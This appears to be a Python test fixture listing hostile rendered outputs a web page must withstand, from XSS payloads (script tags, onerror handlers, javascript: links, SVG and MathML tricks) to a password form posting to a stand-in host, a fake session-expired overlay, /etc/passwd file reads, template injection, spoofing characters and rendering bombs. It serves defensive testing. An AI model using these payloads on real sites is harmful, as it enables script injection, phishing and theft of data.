"""Answers that a page must survive: whatever runs here sets `window.hit`, whatever is fetched is asked of HOST."""

from __future__ import annotations

HOST = "elsewhere.example"
HIT = "window.hit=1"

OUTPUTS: dict[str, str] = {
    "script": f"<script>{HIT}</script>",
    "script of another host": f'<script src="https://{HOST}/x.js"></script>',
    "module": f'<script type="module">import "https://{HOST}/m.js"; {HIT}</script>',
    "broken script": f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    "upper case script": f"<SCRIPT/XSS>{HIT}</SCRIPT >",
    "image error": f"<img src=x onerror={HIT}>",
    "image error without spaces": f"<img/src='x'/onerror={HIT}>",
    "image of another host": f'<img src="https://{HOST}/beacon.png" srcset="https://{HOST}/b2.png 2x">',
    "handlers": f'<p onmouseover="{HIT}" onclick="{HIT}" style="font-size:99px">over me</p>',
    "autofocus": f"<input autofocus onfocus={HIT}><select autofocus onfocus={HIT}><textarea autofocus onfocus={HIT}>",
    "details": f"<details open ontoggle={HIT}><summary>more</summary>x</details>",
    "animation": f"<div style='animation:x 1s' onanimationstart={HIT}>moving</div>",
    "video": f'<video autoplay onerror={HIT} poster="https://{HOST}/p.png"><source src="https://{HOST}/v.mp4"></video>',
    "svg onload": f"<svg onload={HIT}><circle r=9/></svg>",
    "svg script": f"<svg><script>{HIT}</script><image href='https://{HOST}/i.png'/></svg>",
    "svg animate": f"<svg><a><animate attributeName=href values=javascript:{HIT} /><text y=9>x</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hit=1></svg>#x'/></svg>",
    "mathml namespaces": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f"<img title='--&gt;&lt;img src=1 onerror={HIT}&gt;'></mglyph></table></mtext></math>"
    ),
    "mathml link": f'<math href="javascript:{HIT}"><mtext>CLICK</mtext></math>',
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    "template": f"<template><script>{HIT}</script></template><xmp><img src=x onerror={HIT}></xmp>",
    "comment": f"<!--><img src=x onerror={HIT}>--><![CDATA[<img src=x onerror={HIT}>]]>",
    "javascript link": f'<a href="javascript:{HIT}">click</a> [click](javascript:{HIT}) <javascript:{HIT}>',
    "veiled javascript link": f'<a href="&#106;ava&Tab;script:{HIT}">click</a> [x](java&#x0a;script&colon;{HIT})',
    "data link": f'<a href="data:text/html,<script>{HIT}</script>">click</a> [x](data:text/html;base64,PHNjcmlwdD4=)',
    "vbscript and file links": "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](//elsewhere.example/x) [w](/media/x)",  # noqa: E501
    "ping": f'<a href="https://{HOST}/" ping="https://{HOST}/ping" target="_top" onclick="{HIT}">click</a>',
    "markdown picture": f"![seen](https://{HOST}/seen.png) ![data](data:image/svg+xml,<svg/onload={HIT}>)",
    "markdown picture by name": f'![a][b]\n\n[b]: https://{HOST}/named.png "onload={HIT}"',
    "markdown attribute": f'![x](https://{HOST}/x.png"onerror="{HIT}) [x](https://{HOST}/"onmouseover="{HIT})',
    "iframe": f'<iframe src="https://{HOST}/"></iframe><iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    "object": f'<object data="https://{HOST}/o.swf"></object><embed src="https://{HOST}/e"><applet code=x></applet>',
    "form": f'<form action="https://{HOST}/take"><input name=password><button>Sign in</button></form>',
    "form of the page": "<button form=run id=run name=run>Run</button><input id=stop><label for=run>press</label>",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=https://{HOST}/">',
    "base": f'<base href="https://{HOST}/"><link rel=stylesheet href="/x.css"><link rel=preload as=image href=/y.png>',
    "style": f'<style>@import "https://{HOST}/x.css"; #run{{display:none}} body{{background:url(https://{HOST}/b)}}</style>',
    "style attribute": f'<div style="background:url(https://{HOST}/s);width:expression({HIT})">x</div>',
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:red"><h1>Your session has expired</h1></div>',  # noqa: E501
    "classes of the page": '<div class="sr boxes zoomed trouble" id="run" role="dialog" aria-modal="true" hidden>x</div>',  # noqa: E501
    "clobbering": "<form name=arena><input name=lang></form><a id=arena name=hit><img name=getElementById>",
    "unbalanced table": "<table><tr><td>one</table></div></div></div></section></main><table><td>two<tr></body></html>",
    "endless spans": '<table><tr><td colspan="1000000" rowspan="65534">wide</td></tr></table>' * 3,
    "nested tables": "<table><tr><td>" * 600 + "deep",
    "nested elements": "<div><b><ul><li>" * 1500 + "deep",
    "nested quotes": "> " * 3000 + "deep\n\n" + "".join(f"{'  ' * n}- {n}\n" for n in range(150)),
    "closing the block": f"</pre></div><img src=x onerror={HIT}>\"'></textarea><script>{HIT}</script>",
    "one long line": "A" * 30_000,
    "signs without a break": "\N{NO-BREAK SPACE}_" * 6_000,
    "long cell": "|a|b|\n|-|-|\n|" + "W" * 5_000 + "|x|",
    "null bytes": f"be\0fore <scr\0ipt>{HIT}</script> <img sr\0c=x onerr\0or={HIT}> \x1b[31mred\x08\x07 after",
    "writing direction": "user\u202egnp.exe\u202c \u2066\u2067abc\u2069 \u202d\u202dleft \u200f\u200fright",
    "right to left": "\u05d0\u05d1\u05d2 " * 400 + "<b>\u0645\u0631\u062d\u0628\u0627</b> 123",
    "look-alikes": "раураl.com \u0430\u0440\u0440l\u0435 <\u0455cript>window.hit=1</\u0455cript> ＜script＞window.hit=1＜/script＞",  # noqa: E501
    "piled marks": "Z" + "\u0300\u0301\u0302\u0303\u0304" * 600 + "algo",
    "invisible letters": "a\u200bb\u200c\u200d\u2060c\ufeff\U000e0061\U000e0062 \N{GRINNING FACE}",
    "templates": f"${{{HIT}}} {{{{{HIT}}}}} {{% print({HIT}) %}} <%= {HIT} %> #{{{HIT}}} {{{{constructor.constructor('{HIT}')()}}}}",  # noqa: E501
    "handlebars": "{{#with window}}{{hit}}{{/with}} {{{value}}} ${value} ${element.remove()} @children",
    "marks of the framework": '__i18n__{"type":"translation_metadata","key":"ui.run"} __i18n__{"__type__":"translation_metadata"',  # noqa: E501
    "file of the framework": '{"path":"/etc/passwd","meta":{"_type":"gradio.FileData"},"url":"/gradio_api/file=/etc/passwd"}',  # noqa: E501
    "formula link": f"$\\href{{javascript:{HIT}}}{{click}}$ $$\\url{{https://{HOST}/}}$$ \\(\\includegraphics{{https://{HOST}/x}}\\)",
    "formula markup": f"$\\text{{<img src=x onerror={HIT}>}}$ \\(\\unicode{{<script>{HIT}</script>}}\\)",
    "formula style": f"$\\style{{position:fixed;inset:0}}{{x}} \\class{{sr}}{{y}} \\color{{red;background:url(https://{HOST}/)}}{{z}}$",
    "formula attributes": f'<a href="https://{HOST}/\n\n$x" onmouseover="{HIT}$ \\("onclick={HIT}\\)"> <td colspan="$1$">',  # noqa: E501
    "formula bomb": "$\\def\\a#1{#1#1}\\def\\b{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}\\b\\b$ $\\newcommand{\\x}{\\x\\x}\\x$",
    "formula depth": "$" + "\\sqrt{" * 80 + "x" + "}" * 80 + "$ $" + "x_{" * 99 + "1" + "}" * 99 + "$",
    "formula size": "$\\rule{99999em}{99999em} \\hspace{-99999em} \\kern9999em \\raise9999em\\hbox{x} \\Huge x$",
    "open formulas": "\\(" * 4_000 + "\\[" * 4_000 + "$" * 3_001,
}
